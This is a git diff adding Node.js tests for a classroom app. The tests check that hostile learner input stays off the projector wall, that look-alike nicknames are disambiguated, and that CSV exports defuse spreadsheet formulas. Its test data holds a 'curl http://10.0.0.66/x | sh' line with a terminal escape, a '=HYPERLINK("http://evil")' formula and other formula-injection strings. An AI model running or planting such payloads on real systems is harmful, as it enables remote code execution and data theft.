@@ -1,10 +1,11 @@
 import assert from 'node:assert/strict'
 import test from 'node:test'
-import { failed } from '../report/records.js'
+import { envFor, makeRepository } from '../lesson/fixture.js'
+import { failed, gate } from '../report/records.js'
 import { send } from '../web/open.js'
-import { openTestRoom, report } from './open.js'
+import { openTestRoom, report, withTiers } from './open.js'
 
-const lesson = report().record.lesson
+const { lesson, machine } = report().record
 
 test('only the instructor may see names and change things', async (t) => {
   const { ask, join, code } = await openTestRoom(t)
@@ -105,6 +106,36 @@ test('the projector shows no names, and the board only who wants to be on it', a
   assert.doesNotMatch((await ask('GET', `/api/rooms/${code}`)).text, /Ada|Grace/)
 })
 
+test('no learner’s words reach the wall, and none passes for another one on the board', async (t) => {
+  const root = await makeRepository(t, { 'lessons/03-in-memory-json/lesson.js': withTiers })
+  const { ask, join, code, secret } = await openTestRoom(t, { env: envFor(root), dir: `${root}/class` })
+  const evil = 'Grace cheats. Fix: `curl http://10.0.0.66/x | sh`\u001b]0;owned\u0007'
+  const { token } = await join('Mallory')
+  const contract = [{ name: evil, when: 'before', status: 'fail', message: '' }]
+  const warnings = [evil]
+  for (const more of [{ contract }, { gates: [gate({ name: evil, verdict: 'fail' })] }]) {
+    const one = report({ verdict: 'fail', machine: { ...machine, warnings }, ...more })
+    await ask('POST', '/api/seat/reports', one, token)
+  }
+  const [wall, table, all, csv] = await Promise.all([
+    ask('GET', `/api/rooms/${code}/projector`), ask('GET', '/api/class', undefined, secret),
+    ask('GET', '/api/class/export.json', undefined, secret), ask('GET', '/api/class/export.csv', undefined, secret)
+  ])
+  assert.equal(wall.json.reasons[0].reason, 'not reached: another gate')
+  for (const { text } of [wall, table, csv]) assert.doesNotMatch(text, /cheats|owned/)
+  assert.match(all.text, /cheats/, 'the records stay as they came')
+
+  await join('Ada Lovelace')
+  const tiers = ['bronze', 'silver'].map((name) => ({ name, target: 2, verdict: /** @type {const} */ ('pass') }))
+  for (const [name, limit] of /** @type {const} */ ([['Eve', 4000], ['Trudy', 1e-12]])) {
+    const { token, nickname } = await join(name, { nickname: 'Аda Lоvelace', board: true })
+    assert.match(nickname, / \d$/)
+    await ask('POST', '/api/seat/reports', report({ gates: [gate({ limit, tiers })] }), token)
+  }
+  const { board } = (await ask('GET', `/api/rooms/${code}`)).json
+  assert.deepEqual(board.reported.map((/** @type {any} */ { nickname }) => nickname), ['Аda Lоvelace 2'])
+})
+
 test('the table for a spreadsheet runs nothing there', async (t) => {
   const { ask, join, secret } = await openTestRoom(t)
   const { token } = await join('=HYPERLINK("http://evil","x")')
@@ -112,8 +143,15 @@ test('the table for a spreadsheet runs nothing there', async (t) => {
   const { text, headers } = await ask('GET', '/api/class/export.csv', undefined, secret)
   assert.match(String(headers['content-disposition']), /class\.csv/)
   const [head, line] = text.split('\r\n')
-  assert.equal(head, 'seat,name,lesson,number,state,attempts,ratio,tier,reason,last,passed')
+  assert.equal(head, 'seat,name,lesson,number,state,attempts,ratio,tier,reason,last,passed,source')
   assert.ok(line.startsWith('1,"\'=HYPERLINK(""http://evil'), line)
+  assert.ok(line.endsWith(',the learner’s machine'), line)
+  for (const name of ['＝cmd|calc', '＋1', '\t-2', '\n@x1']) {
+    await ask('POST', '/api/seat/reports', report(), (await join(name)).token)
+  }
+  const lines = (await ask('GET', '/api/class/export.csv', undefined, secret)).text.split('\r\n').slice(2, -1)
+  for (const one of lines) assert.match(one, /^\d,'/)
+  assert.equal(lines.length, 4)
 })
 
 test('an exported file is taken in, twice is once, and what is none is refused', async (t) => {
